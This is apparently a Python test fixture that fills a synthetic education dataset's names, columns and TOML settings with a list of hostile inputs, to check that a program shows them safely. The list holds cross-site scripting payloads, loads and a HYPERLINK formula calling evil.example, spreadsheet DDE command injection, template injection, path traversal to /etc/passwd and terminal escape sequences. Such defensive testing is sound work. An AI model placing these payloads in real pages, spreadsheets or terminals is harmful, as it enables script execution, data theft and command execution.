"""Names that do something where a program obeys them, and a community in which all of them are told."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Mapping
from pathlib import Path

import numpy as np
import pandas as pd
from builders import files, put

ATTACKS: Mapping[str, str] = {
    "script": "<script>window.__hit=1</script>",
    "script with a source": '<script src="https://evil.example/x.js"></script>',
    "script in capitals": "<SCRIPT >alert(1)</ScRiPt >",
    "script without an end": "<script>alert(2)//",
    "script in pieces": "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "image that fails": '<img src=x onerror="window.__hit=2">',
    "image without blanks": "<img/src=x/onerror=alert(4)>",
    "svg that loads": '<svg onload="window.__hit=3">',
    "svg with a link": '<svg><a xlink:href="javascript:alert(5)"><text y="9">x</text></a></svg>',
    "svg with another": '<svg><use href="https://evil.example/a.svg#x"/></svg>',
    "svg animated": '<svg><animate onbegin=alert(6) attributeName=x dur=1s>',
    "mathml": '<math><mi xlink:href="javascript:alert(7)">x</mi></math>',
    "frame": '<iframe srcdoc="<script>parent.__hit=4</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(8)</script>"></object>',
    "open details": "<details open ontoggle=alert(9)>",
    "focus": '<input autofocus onfocus="window.__hit=5">',
    "form": '<form action="https://evil.example"><button>ok</button></form>',
    "link that runs": "<a href='javascript:alert(10)'>x</a>",
    "address that runs": "javascript:alert(11)",
    "Markdown link": "[x](javascript:alert(12))",
    "Markdown image": "![x](https://evil.example/a.png)",
    "Markdown raw": "**bold** `code` <b onclick=alert(13)>b</b>",
    "Markdown heading": "# Not a heading",
    "end of an attribute": '" onmouseover="window.__hit=6" x="',
    "end of another": "' autofocus onfocus='alert(14)' x='",
    "end of a cell": "</td></tr></table><h1>Second</h1>",
    "end of the title": "</title><script>alert(15)</script>",
    "end of a style": "</style><style>*{display:none}</style>",
    "style": '<p style="background:url(https://evil.example/b.png)">x</p>',
    "import": "<style>@import 'https://evil.example/c.css'</style>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "comment": "<!-- x --> --> <!--",
    "cdata": "]]><script>alert(16)</script><![CDATA[",
    "entities": "&lt;script&gt;alert(17)&lt;/script&gt;",
    "end of json": '</script><script>alert(18)</script>{"a": "\\u003c"}',
    "template": "{{7*7}} {% raw %} {{cycler.__init__}}",
    "another template": "${7*7} #{7*7} <%= 7*7 %>",
    "percent": "%s %(name)s %n 100%",
    "format": "{0.__class__.__mro__} {name!r} {}",
    "formula": "=1+1",
    "formula with plus": "+1+1",
    "formula with minus": "-2+3",
    "number with minus": "-3",
    "formula with at": "@SUM(1+1)*9",
    "formula in full width": "＝1+1",
    "formula behind quotes": '"=1+1',
    "formula that asks": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "dde": "=cmd|' /C calc'!A0",
    "dde behind a sum": "@SUM(1+9)*cmd|' /C calc'!A0",
    "path up": "../../../etc/passwd",
    "path of Windows": "C:\\Windows\\System32\\CON",
    "NUL": "nothing\x00after",
    "colour of a terminal": "\x1b[31mred\x1b[0m",
    "clipboard of a terminal": "\x1b]52;c;ZXZpbA==\x07",
    "link of a terminal": "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "eight bit control": "\x9b31mred",
    "turned round": "safe\u202egnp.exe",
    "turned in an isolate": "\u2067ab\u2069 12",
    "zero width": "zero\u200bwidth\u200d\ufeff!",
    "very long": "Wh" + "a" * 9998,
    "quotes": "'\"`´“”‘’«»",
    "TeX": r"\(\frac{1}{2}\) $\alpha$ $$x$$ \begin{x}",
    "words of our own pictures": "'DejaVu Sans' width=\"12pt\" x",
    "mojibake": "MÄori Ã©cole â€œxâ€\x9d",
    "Arabic and marks": "مدرسة Z̷a̷l̷g̷o̷",
    "emoji": "👩‍🏫 🏫",
}  # fmt: skip
_TURNING = {*"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"}
# No table of text holds NUL; in groups a ";" parts two of them and "&" is told as "and".
IN_FILES = {name: text for name, text in ATTACKS.items() if "\0" not in text}
IN_GROUPS = {
    name: text
    for name, text in IN_FILES.items()
    if not {";", "&"} & set(text) and name != "very long"
}
COLUMNS = ("<b onclick=alert(19)>House", "=Bus|route", "{{team}}\x1b[31m")
SETTINGS = """\
[community]
id = {id}
name = {name}
label = {label}
made_up = true

[settings]
deepest_group = 1

[privacy]
purpose = "why"
approver = "who"
expires = 2999-12-31
"""


def shown(text: str) -> str:
    """How a text is told: without what cannot be seen and is obeyed, blanks as one."""
    text = text.replace("\r", "\n")
    kept = "".join(
        c
        for c in unicodedata.normalize("NFC", text)
        if c not in _TURNING and (unicodedata.category(c) != "Cc" or c in "\t\n")
    )
    return " ".join(kept.split())


def toml(value: object) -> str:
    """A value as TOML writes it."""
    return (
        json.dumps(value, ensure_ascii=False).replace("\x7f", "\\u007f").replace("\x9b", "\\u009b")
    )


def community(folder: Path) -> Path:
    """A folder in which every name is an attack, with gaps so large that groups and schools are named."""
    rng = np.random.default_rng(5)
    tables = files(rng, learners=320)
    learners = tables["learners"]
    texts = list(IN_GROUPS.values())
    pieces = [texts[:10], texts[10:20], texts[-10:]]
    for heading, values in zip(COLUMNS, pieces, strict=True):
        learners[heading] = rng.choice(values, len(learners))
    low = set(learners.loc[learners[COLUMNS[0]].isin(pieces[0][:3]), "learner_id"])
    high = set(learners.loc[learners[COLUMNS[1]].isin(pieces[1][:2]), "learner_id"])
    results = tables["observations"]
    for who, words, sign in ((low, ("below", "0.5"), 0.85), (high, ("at", "0.95"), 0.98)):
        chosen = results["learner_id"].isin(who) & (rng.random(len(results)) < sign)
        reading = results["measure"] == "reading_judgement"
        results.loc[chosen & reading, "value"] = words[0]
        results.loc[chosen & ~reading, "value"] = words[1]
    names = list(IN_FILES.values())
    tables["providers"]["name"] = names[:4]
    partners = pd.DataFrame(
        {"provider_id": [f"X{i}" for i in range(len(names))], "name": names, "type": "partner"}
    )
    tables["providers"] = pd.concat([tables["providers"], partners])
    tables["local_knowledge"] = pd.DataFrame(
        {"claim": names, "source": names[::-1], "direction": "hurdle", "consent": "yes"}
    )
    tables["resources"] = pd.DataFrame({"resource": names, "unit": names[::-1], "amount": -1.5})
    every = list(ATTACKS.values())
    text = SETTINGS.format(
        id=toml(every[50]), name=toml(every[26] + every[52]), label=toml(every[36])
    )
    for i, (name, domain) in enumerate(
        (("reading_judgement", "achievement"), ("attendance", "attendance"))
    ):
        said = [every[5 * i], every[5 * i + 6], every[5 * i + 38], every[5 * i + 55]]
        keys = ("label", "success_label", "judged_by", "note")
        lines = [f"{key} = {toml(value)}" for key, value in zip(keys, said, strict=True)]
        broken = f"breaks = [{{ date = 2010-01-01, why = {toml(every[20 + i])} }}]"
        text += "\n".join(
            ["\n[[measure]]", f'id = "{name}"', f'domain = "{domain}"', *lines, broken, ""]
        )
    for first in range(0, len(every), 12):
        text += (
            f"\n[[plan]]\nchallenge = {toml(' ¦ '.join(every[first : first + 12]))}\nmeasure = 'attendance'\n"
            "baseline_year = 2023\nbaseline_n = 30\nbaseline_of = 60\n"
            "target = 0.6\ntarget_year = 2025\n"
        )
    return put(folder, tables, text)
